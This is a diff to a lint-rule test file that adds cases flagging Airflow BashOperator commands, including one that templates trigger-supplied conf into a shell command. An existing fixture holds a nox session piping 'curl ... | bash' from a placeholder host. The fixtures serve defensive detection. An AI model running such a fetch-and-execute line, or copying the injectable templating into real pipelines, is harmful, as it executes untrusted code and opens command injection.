@@ -25,6 +25,16 @@ ruleTester(rule, {
   ],
   invalid: [
     {
+      name: 'an Airflow BashOperator whose command templates the trigger conf',
+      code: 'from airflow.operators.bash import BashOperator\n\nrun = BashOperator(\n    task_id="run_dbt",\n    bash_command="dbt run --select {{ dag_run.conf.get(\'select\', \'orders+\') }}",\n)',
+      errors: [{ messageId: 'runsDynamic', line: 3, endLine: 6, severity: 'high', category: 'process' }],
+    },
+    {
+      name: 'an Airflow BashOperator with a fixed command',
+      code: 'from airflow.operators.bash import BashOperator\n\nrun = BashOperator(task_id="dbt", bash_command="dbt run --select orders+")',
+      errors: [{ messageId: 'runs', line: 3, severity: 'medium', category: 'process' }],
+    },
+    {
       code: "import nox\n@nox.session\ndef tests(session):\n    session.run('bash', '-c', 'curl -fsSL https://x.example/ci.sh | bash', external=True)",
       errors: [{ messageId: 'danger', line: 4, severity: 'high' }],
     },
